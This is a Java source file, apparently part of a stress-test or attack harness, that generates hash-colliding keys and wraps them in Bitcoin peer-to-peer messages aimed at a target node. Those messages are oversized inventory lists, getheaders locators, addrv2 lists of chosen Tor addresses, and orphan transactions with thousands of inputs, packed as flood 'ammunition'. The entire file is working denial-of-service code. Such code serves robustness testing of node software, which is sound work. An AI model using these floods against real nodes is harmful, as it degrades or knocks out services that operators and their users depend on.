// SPDX-License-Identifier: MIT
package org.moneyrocket.benchmarks.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;

/**
 * Keys that fall into one place of a table whose hash is a sum with weights 31, 31², …, as that of
 * arrays and texts in Java is: two neighbouring bytes (a, b) count 31a + b.
 */
final class Collisions {
  private static final int WAYS = 9;
  private static final int SUM = 127;

  private Collisions() {}

  /** Fills an array with the bytes of one of many keys whose sums are equal. */
  static void fill(byte[] into, int from, int to, int number) {
    int rest = number;
    for (int at = from; at + 1 < to; at += 2) {
      int a = rest % WAYS;
      into[at] = (byte) a;
      into[at + 1] = (byte) (SUM - 31 * a);
      rest /= WAYS;
    }
  }

  static byte[] hash(int number) {
    byte[] hash = new byte[32];
    fill(hash, 0, 32, number);
    return hash;
  }

  /** Returns a name of letters; all names of one length have the same sum. */
  static String name(int number) {
    StringBuilder name = new StringBuilder();
    for (int bit = 0; bit < 20; bit++) {
      name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return name.toString();
  }

  static List<byte[]> hashes(int from, int count) {
    List<byte[]> hashes = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      hashes.add(hash(from + i));
    }
    return hashes;
  }

  /** Messages that hold chosen keys, sent one after the other. */
  static Floods.Ammunition inventories(String command, int type) {
    // Each is as large as a message may be; sent again it would be known already.
    return target -> several(n -> Wire.message(command, Wire.inventory(type, hashes(n, 50_000))));
  }

  static List<byte[]> several(IntFunction<byte[]> message) {
    List<byte[]> buffers = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      buffers.add(message.apply(i * 50_000));
    }
    return buffers;
  }

  static List<byte[]> locators(Target target) {
    return several(n -> Wire.message("getheaders", Wire.locator(hashes(n, 101))));
  }

  /** Addresses of the new kind of Tor, whose 32 bytes anyone may choose. */
  static List<byte[]> addresses(Target target) {
    return several(
        n -> {
          ByteBuffer out = Wire.little(3 + 1000 * 43);
          Wire.count(out, 1000);
          for (byte[] key : hashes(n, 1000)) {
            out.putInt((int) (System.currentTimeMillis() / 1000)).put((byte) 9);
            out.put((byte) 4).put((byte) 32).put(key).put((byte) 0x20).put((byte) 0x8d);
          }
          return Wire.message("addrv2", Wire.used(out));
        });
  }

  /** Transactions that spend many outputs of transactions that nobody knows. */
  static List<byte[]> orphans(Target target) throws IOException {
    int inputs = 2300;
    return several(
        n -> {
          ByteBuffer out = Wire.little(100 + inputs * 41);
          out.putInt(2);
          Wire.count(out, inputs);
          for (byte[] txid : hashes(n, inputs)) {
            out.put(txid).putInt(0).put((byte) 0).putInt(-1);
          }
          out.put((byte) 1).putLong(10_000).put((byte) 34).put((byte) 0).put((byte) 32);
          out.put(new byte[32]).putInt(0);
          return Wire.message("tx", Wire.used(out));
        });
  }
}
